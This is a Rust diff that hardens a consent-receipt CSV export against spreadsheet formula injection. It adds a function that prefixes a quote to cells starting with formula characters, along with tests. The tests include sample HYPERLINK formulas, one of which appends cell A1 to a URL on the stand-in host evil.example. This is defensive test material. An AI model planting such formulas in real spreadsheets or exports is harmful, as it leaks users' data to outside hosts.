@@ -136,9 +136,9 @@ pub fn line(format: Format, r: &StoredReceipt) -> String {
                 format_seconds(r.consent_ts),
                 format_millis(r.received_ms),
                 r.collection_method.clone(),
-                r.policy_version.clone(),
-                flags(&decisions.purposes),
-                flags(&decisions.services),
+                defuse(&r.policy_version),
+                defuse(&flags(&decisions.purposes)),
+                defuse(&flags(&decisions.services)),
                 r.chain.clone(),
                 r.prev_receipt_hash.clone().unwrap_or_default(),
                 r.receipt_hash.clone(),
@@ -156,8 +156,19 @@ fn flags(map: &BTreeMap<String, bool>) -> String {
     map.iter().map(|(k, v)| format!("{k}={}", if *v { "granted" } else { "refused" })).collect::<Vec<_>>().join(";")
 }
 
-/// RFC 4180 quoting when needed. Values are never altered (hashes may start with `-`), so open the
-/// file in a spreadsheet as text, not as formulas.
+/// A free-text cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`,
+/// tab or carriage return) gets a leading `'` (the OWASP advice against CSV injection). Only the
+/// columns a browser chooses freely go through this; hashes and the JWS are written as they are
+/// (a hash may start with `-`), so still open the file as text, not as formulas.
+fn defuse(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
+/// RFC 4180 quoting when needed.
 fn csv_field(f: &str) -> String {
     if f.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", f.replace('"', "\"\""))
@@ -199,6 +210,15 @@ pub(crate) mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"x\""), "\"say \"\"x\"\"\"");
         assert_eq!(csv_field("-hash"), "-hash");
+        for formula in ["=HYPERLINK(\"https://evil.example/?\"&A1,\"policy\")", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]
+        {
+            assert_eq!(defuse(formula), format!("'{formula}"));
+        }
+        assert_eq!(defuse("2026-11"), "2026-11");
+        let hostile =
+            StoredReceipt { policy_version: "=HYPERLINK(\"https://evil.example\",\"policy\")".into(), ..stored(None) };
+        let line = line(Format::Csv, &hostile);
+        assert!(line.contains(",\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"policy\"\")\","), "{line}");
         let map = BTreeMap::from([("b".to_string(), false), ("a".to_string(), true)]);
         assert_eq!(flags(&map), "a=granted;b=refused");
         assert_eq!(parse_bound("1970-01-02"), Ok(86_400));
